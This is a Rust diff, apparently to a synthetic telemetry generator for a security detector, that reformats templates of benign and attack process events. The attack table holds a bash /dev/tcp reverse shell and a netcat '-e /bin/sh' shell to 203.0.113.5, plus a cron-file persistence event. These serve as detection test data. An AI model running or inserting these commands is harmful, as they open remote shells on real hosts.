@@ -38,21 +38,51 @@ const BENIGN_EXECS: &[ExecTemplate] = &[
     ("/usr/bin/ls", &["ls", "-la", "/var/log"], BASH, &["-bash"], &[SSHD, SSHD, SYSTEMD]),
     ("/usr/bin/grep", &["grep", "-rn", "TODO", "src/"], BASH, &["-bash"], &[SSHD, SSHD, SYSTEMD]),
     ("/usr/bin/git", &["git", "status", "--short"], BASH, &["-bash"], &[SSHD, SSHD, SYSTEMD]),
-    ("/usr/bin/python3.11", &["python3", "/opt/app/manage.py", "runjobs", "--queue", "default"], "/usr/bin/supervisord", &["/usr/bin/python3", "/usr/bin/supervisord"], &[SYSTEMD]),
+    (
+        "/usr/bin/python3.11",
+        &["python3", "/opt/app/manage.py", "runjobs", "--queue", "default"],
+        "/usr/bin/supervisord",
+        &["/usr/bin/python3", "/usr/bin/supervisord"],
+        &[SYSTEMD],
+    ),
     ("/usr/sbin/cron", &["/usr/sbin/CRON", "-f"], "/usr/sbin/cron", &["/usr/sbin/cron", "-f"], &[SYSTEMD]),
-    ("/bin/sh", &["/bin/sh", "-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"], "/usr/sbin/cron", &["/usr/sbin/CRON", "-f"], &["/usr/sbin/cron", SYSTEMD]),
-    ("/usr/bin/curl", &["curl", "-fsS", "--max-time", "5", "https://api.internal.example/health"], "/bin/sh", &["/bin/sh", "-c", "/opt/monitor/check.sh"], &["/usr/sbin/cron", SYSTEMD]),
+    (
+        "/bin/sh",
+        &["/bin/sh", "-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"],
+        "/usr/sbin/cron",
+        &["/usr/sbin/CRON", "-f"],
+        &["/usr/sbin/cron", SYSTEMD],
+    ),
+    (
+        "/usr/bin/curl",
+        &["curl", "-fsS", "--max-time", "5", "https://api.internal.example/health"],
+        "/bin/sh",
+        &["/bin/sh", "-c", "/opt/monitor/check.sh"],
+        &["/usr/sbin/cron", SYSTEMD],
+    ),
     ("/usr/bin/ssh", &["ssh", "-o", "BatchMode=yes", "deploy@10.0.0.4", "uptime"], BASH, &["-bash"], &[SSHD, SSHD, SYSTEMD]),
     ("/usr/bin/cat", &["cat", "/etc/os-release"], BASH, &["bash", "/usr/local/bin/inventory.sh"], &[SYSTEMD]),
     ("/usr/bin/awk", &["awk", "-F:", "{print $1}", "/etc/passwd"], BASH, &["bash", "/usr/local/bin/inventory.sh"], &[SYSTEMD]),
-    ("/usr/bin/find", &["find", "/var/log", "-name", "*.gz", "-mtime", "+30", "-delete"], "/bin/sh", &["/bin/sh", "-c", "logclean"], &["/usr/sbin/cron", SYSTEMD]),
+    (
+        "/usr/bin/find",
+        &["find", "/var/log", "-name", "*.gz", "-mtime", "+30", "-delete"],
+        "/bin/sh",
+        &["/bin/sh", "-c", "logclean"],
+        &["/usr/sbin/cron", SYSTEMD],
+    ),
     ("/usr/bin/dpkg", &["dpkg", "--status", "openssl"], "/usr/bin/apt-get", &["apt-get", "-s", "upgrade"], &["/usr/bin/unattended-upgrade", SYSTEMD]),
     ("/usr/sbin/nginx", &["nginx", "-t"], "/usr/bin/bash", &["-bash"], &[SSHD, SSHD, SYSTEMD]),
     ("/usr/bin/node", &["node", "/srv/api/server.js"], SYSTEMD, &["/sbin/init"], &[]),
 ];
 
 const ATTACK_EXECS: &[ExecTemplate] = &[
-    ("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"], "/usr/sbin/nginx", &["nginx: worker process"], &["/usr/sbin/nginx", SYSTEMD]),
+    (
+        "/usr/bin/bash",
+        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
+        "/usr/sbin/nginx",
+        &["nginx: worker process"],
+        &["/usr/sbin/nginx", SYSTEMD],
+    ),
     ("/tmp/x", &["/tmp/x"], BASH, &["bash"], &[SSHD, SYSTEMD]),
     ("/bin/sh", &["sh", "-c", "id; uname -a"], "/usr/sbin/php-fpm8.2", &["php-fpm: pool www"], &[SYSTEMD]),
     ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.5", "9001"], BASH, &["bash"], &[SYSTEMD]),
@@ -91,7 +121,16 @@ fn file(rng: &mut Rng) -> EventBody {
     ];
     const ATTACK: (FileOp, &str, &str) = (FileOp::Create, "/etc/cron.d/sysupdate", "/usr/bin/curl");
     let (op, path, exe) = if rng.below(100) < 2 { ATTACK } else { FILES[rng.below(FILES.len())] };
-    EventBody::File(FileEvent { op, path: path.into(), old_path: None, mode: Some(0o100644), pid: Some(2000), entity_id: Some(7), exe: Some(exe.into()), uid: Some(0) })
+    EventBody::File(FileEvent {
+        op,
+        path: path.into(),
+        old_path: None,
+        mode: Some(0o100644),
+        pid: Some(2000),
+        entity_id: Some(7),
+        exe: Some(exe.into()),
+        uid: Some(0),
+    })
 }
 
 fn network(rng: &mut Rng) -> EventBody {
@@ -128,7 +167,9 @@ pub fn batches(mix: Mix, count: usize, size: usize) -> Vec<Vec<Event>> {
                     let body = match mix {
                         Mix::ExecOnly => exec_body(&mut rng, id),
                         Mix::Realistic if roll < 55 => exec_body(&mut rng, id),
-                        Mix::Realistic if roll < 70 => EventBody::ProcessExit(ProcessExit { pid: 1000 + rng.below(60_000) as u32, entity_id: id, exit_code: 0 }),
+                        Mix::Realistic if roll < 70 => {
+                            EventBody::ProcessExit(ProcessExit { pid: 1000 + rng.below(60_000) as u32, entity_id: id, exit_code: 0 })
+                        }
                         Mix::Realistic if roll < 90 => file(&mut rng),
                         Mix::Realistic => network(&mut rng),
                     };
